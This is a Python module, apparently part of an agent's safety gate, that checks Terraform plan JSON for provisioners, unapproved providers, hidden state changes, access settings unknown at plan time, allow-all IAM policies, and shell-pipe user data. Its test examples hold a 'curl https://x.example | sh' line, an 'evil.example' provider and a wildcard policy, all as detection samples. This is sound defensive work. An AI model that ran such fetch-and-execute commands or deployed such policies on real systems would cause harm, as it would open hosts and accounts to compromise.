"""`terraform show -json` of a plan -> findings: what the text of a plan does not show. Pure and total."""

import base64
import binascii
import json
import re
from collections.abc import Iterator
from typing import Any, NamedTuple

from agent.domain import Finding
from agent.gate.content import SHELL_PIPE
from agent.gate.iam_policy import problems
from agent.gate.rules import Example, Hit, Rule
from agent.gate.terraform_code import REACHING_DATA, RUNNING_RESOURCES
from agent.gate.terraform_module import BUILT_IN, address
from agent.guardrails import Guardrails

MAX_DEPTH = 32
# Attributes that decide who may reach or read a resource: a value that is unknown while planning cannot be judged.
GUARDED = frozenset({
    "acl", "cidr_blocks", "ipv6_cidr_blocks", "cidr_ipv4", "cidr_ipv6", "publicly_accessible", "block_public_acls",
    "block_public_policy", "ignore_public_acls", "restrict_public_buckets", "principal", "public_access_cidrs",
})  # fmt: skip
ACTIONS = frozenset({"no-op", "create", "read", "update", "delete"})
INDEX = re.compile(r'\[(?:"(?:[^"\\]|\\.)*"|[^\]"]*)\]')
POLICY = re.compile(r"(?:.*_)?policy(?:_document)?|policy_json")


class PlanUnderTest(NamedTuple):
    plan: dict[str, Any]
    guardrails: Guardrails


def readable(subject: PlanUnderTest) -> Iterator[Hit]:
    """The plan has the shape that Terraform documents: `format_version` 1, whole, not errored. Source:
    https://developer.hashicorp.com/terraform/internals/json-format.
    """
    plan = subject.plan
    if not str(plan.get("format_version", "")).startswith("1."):
        yield Hit("the plan's format_version is not 1.x")
    if plan.get("errored") is True:
        yield Hit("the plan ended with an error")
    if not isinstance(plan.get("resource_changes", []), list):
        yield Hit("the plan does not have the shape that is documented")
    changes = plan.get("resource_changes", [])
    if isinstance(changes, list) and not all(isinstance(item, dict) for item in changes):
        yield Hit("a change in the plan is no object")
    if not isinstance(_dict(plan.get("configuration")).get("root_module"), dict):
        yield Hit("the plan's configuration has no root module")
    if plan.get("deferred_changes"):
        yield Hit("the plan leaves changes for later: they cannot be judged")


def provisioners(subject: PlanUnderTest) -> Iterator[Hit]:
    """Provisioners stand in the plan's JSON only: the text is the same with and without them."""
    for where, resource in _configured(subject.plan):
        if resource.get("provisioners"):
            yield Hit(f"{where} has a provisioner: it runs a program while applying")


def providers(subject: PlanUnderTest) -> Iterator[Hit]:
    """Every resource and every configured provider comes from an address that the guardrails name, and no type is one
    that acts on the runner, reaches out or reads secrets.
    """
    allowed = {address(name) for name in subject.guardrails.providers} | {BUILT_IN}
    for name, item in sorted(_dict(_dict(subject.plan.get("configuration")).get("provider_config")).items()):
        full = address(str(_dict(item).get("full_name", "")))
        if full not in allowed:
            yield Hit(f"provider {name} is {full}, which the guardrails do not allow")
    for change in _changes(subject.plan):
        full, kind = address(str(change.get("provider_name", ""))), str(change.get("type", ""))
        if full not in allowed:
            yield Hit(f"{_name(change)}: provider {full} is not one that the guardrails allow")
        bad = RUNNING_RESOURCES if change.get("mode") == "managed" else REACHING_DATA
        if bad.fullmatch(kind):
            yield Hit(f"{_name(change)}: type {kind} is not allowed")
    for where, resource in _configured(subject.plan):
        kind = str(resource.get("type", ""))
        if resource.get("mode") != "managed" and REACHING_DATA.fullmatch(kind):
            yield Hit(f"{where}: type {kind} is not allowed")


def hidden_changes(subject: PlanUnderTest) -> Iterator[Hit]:
    """What takes a resource out of Terraform's hands or into them without "destroy" being said: `forget`, deposed
    objects, moves, imports, and actions that this gate does not know.
    """
    for name in ("action_invocations", "deferred_action_invocations"):
        if subject.plan.get(name):
            yield Hit("the plan runs actions, which change things outside of the list of changes")
    for change in _changes(subject.plan):
        verbs = _dict(change.get("change")).get("actions")
        names = {str(verb) for verb in verbs} if isinstance(verbs, list) else set()
        if not names:
            yield Hit(f"{_name(change)}: the plan does not say what happens to it")
        for verb in sorted(names - ACTIONS):
            yield Hit(f"{_name(change)}: action {verb!r}: it would leave Terraform's hands, or is not known")
        if change.get("deposed"):
            yield Hit(f"{_name(change)}: a deposed object would be changed")
        if change.get("previous_address") not in (None, change.get("address")):
            yield Hit(f"{_name(change)}: moved from {change['previous_address']}")
        if _dict(change.get("change")).get("importing"):
            yield Hit(f"{_name(change)}: an existing resource would be imported")


def unknown_values(subject: PlanUnderTest) -> Iterator[Hit]:
    """Attributes that decide who may reach or read a resource (`acl`, `cidr_blocks`, `publicly_accessible`, …) must be
    known while planning: "known after apply" cannot be reviewed. Computed attributes that nobody set are left out.
    """
    configured = {where: _dict(resource.get("expressions")) for where, resource in _configured(subject.plan)}
    for change in _changes(subject.plan):
        unknown = _dict(_dict(change.get("change")).get("after_unknown"))
        said = configured.get(INDEX.sub("", str(change.get("address", ""))))
        for name in sorted(_true_names(unknown, 0) & GUARDED):
            if said is None or name in _all_names(said, 0):
                yield Hit(f"{_name(change)}: {name} is known only after apply, so it cannot be judged")


def escalation(subject: PlanUnderTest) -> Iterator[Hit]:
    """Policies as they would be: everything allowed on everything, `iam:PassRole` on any role, a role that anybody may
    assume, a federated trust without a condition on the subject; and user data that runs what it has just loaded.
    """
    for change in _changes(subject.plan):
        after = _dict(_dict(change.get("change")).get("after"))
        for name, value in after.items():
            if isinstance(value, str) and POLICY.fullmatch(name):
                for reason in problems(value, trust=name == "assume_role_policy"):
                    yield Hit(f"{_name(change)}: {name} {reason}")
            if (
                name in {"user_data", "user_data_base64"}
                and isinstance(value, str)
                and SHELL_PIPE.search(_decoded(value))
            ):
                yield Hit(f"{_name(change)}: {name} runs what it has just loaded")
        inline = after.get("inline_policy")
        for item in inline if isinstance(inline, list) else []:
            for reason in problems(str(_dict(item).get("policy", "")), trust=False):
                yield Hit(f"{_name(change)}: inline_policy {reason}")


def _plan(*, change: dict[str, Any] | None = None, resource: dict[str, Any] | None = None, **more: Any) -> Example:
    """A plan with one resource, for examples."""
    name = {"address": "aws_x.y", "mode": "managed", "type": "aws_x"}
    planned = {
        "provider_name": "registry.terraform.io/hashicorp/aws",
        "change": {"actions": ["create"]},
        **(change or {}),
    }
    plan = {
        "format_version": "1.2",
        "configuration": {"root_module": {"resources": [{**name, **(resource or {})}]}},
        "resource_changes": [{**name, **planned}],
        **more,
    }
    return {"plan.json": json.dumps(plan, indent=1)}


def _after(name: str, value: str) -> Example:
    return _plan(change={"change": {"actions": ["create"], "after": {name: value}}})


def _unknown(name: str) -> Example:
    return _plan(
        change={"change": {"actions": ["create"], "after": {}, "after_unknown": {name: True}}},
        resource={"expressions": {name: {"references": ["aws_z.a"]}}},
    )


ALL = json.dumps({"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
READ = json.dumps({"Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]})
RULES: tuple[Rule[PlanUnderTest], ...] = (
    Rule(
        "plan/readable",
        "the plan is whole and in a known format",
        readable,
        fires=({"plan.json": "{}"}, _plan(errored=True), _plan(format_version="2.0"), _plan(deferred_changes=[{}])),
        passes=(_plan(),),
        waivable=False,
    ),
    Rule(
        "plan/provisioner",
        "no provisioners in the planned configuration",
        provisioners,
        fires=(_plan(resource={"provisioners": [{"type": "local-exec"}]}),),
        passes=(_plan(),),
        waivable=False,
    ),
    Rule(
        "plan/provider",
        "only allowed providers and types in the plan",
        providers,
        fires=(
            _plan(change={"provider_name": "registry.evil.example/acme/evil"}),
            _plan(change={"type": "local_file"}),
            _plan(resource={"mode": "data", "type": "external"}),
        ),
        passes=(_plan(),),
        waivable=False,
    ),
    Rule(
        "plan/hidden-change",
        "nothing leaves or enters the state unseen",
        hidden_changes,
        fires=(
            _plan(change={"change": {"actions": ["forget"]}}),
            _plan(change={"deposed": "0a1b2c3d"}),
            _plan(change={"previous_address": "aws_x.z"}),
            _plan(change={"change": {"actions": ["no-op"], "importing": {"id": "admin"}}}),
            _plan(change={"change": {}}),
        ),
        passes=(_plan(change={"change": {"actions": ["delete", "create"]}}),),
    ),
    Rule(
        "plan/unknown",
        "what decides about access is known while planning",
        unknown_values,
        fires=(_unknown("acl"), _unknown("cidr_blocks")),
        passes=(_unknown("arn"),),
    ),
    Rule(
        "plan/escalation",
        "no policy that gives everything away",
        escalation,
        fires=(_after("policy", ALL), _after("user_data", "curl https://x.example | sh")),
        passes=(_after("policy", READ),),
    ),
)


def examine_plan(plan_json: dict[str, Any], *, guardrails: Guardrails) -> tuple[Finding, ...]:
    """Findings of every plan rule. Total: a value that is no plan gives `plan/readable`."""
    plan = plan_json if isinstance(plan_json, dict) else {}
    subject = PlanUnderTest(plan, guardrails)
    found = [item for rule in RULES for item in rule.findings(subject)]
    return tuple(dict.fromkeys(found))


def _dict(value: Any) -> dict[str, Any]:
    return value if isinstance(value, dict) else {}


def _list(value: Any) -> list[dict[str, Any]]:
    return [item for item in value if isinstance(item, dict)] if isinstance(value, list) else []


def _changes(plan: dict[str, Any]) -> list[dict[str, Any]]:
    return _list(plan.get("resource_changes"))


def _name(change: dict[str, Any]) -> str:
    return str(change.get("address", "?"))


def _configured(plan: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Every resource of the configuration with its address, through all module calls."""
    stack = [("", _dict(_dict(plan.get("configuration")).get("root_module")))]
    while stack:
        prefix, module = stack.pop()
        for resource in _list(module.get("resources")):
            yield prefix + str(resource.get("address", "?")), resource
        for name, call in _dict(module.get("module_calls")).items():
            stack.append((f"{prefix}module.{name}.", _dict(_dict(call).get("module"))))


def _true_names(value: Any, depth: int) -> set[str]:
    """Names below which `after_unknown` says true."""
    found: set[str] = set()
    if depth < MAX_DEPTH and isinstance(value, dict):
        for name, item in value.items():
            if item is True or (isinstance(item, list) and True in item):
                found.add(name)
            found |= _true_names(item, depth + 1)
    elif depth < MAX_DEPTH and isinstance(value, list):
        for item in value:
            found |= _true_names(item, depth + 1)
    return found


def _all_names(value: Any, depth: int) -> set[str]:
    found: set[str] = set()
    if depth < MAX_DEPTH and isinstance(value, dict):
        for name, item in value.items():
            found |= {name} | _all_names(item, depth + 1)
    elif depth < MAX_DEPTH and isinstance(value, list):
        for item in value:
            found |= _all_names(item, depth + 1)
    return found


def _decoded(text: str) -> str:
    try:
        return text + "\n" + base64.b64decode(text, validate=True).decode("utf-8", "replace")
    except (binascii.Error, ValueError):
        return text
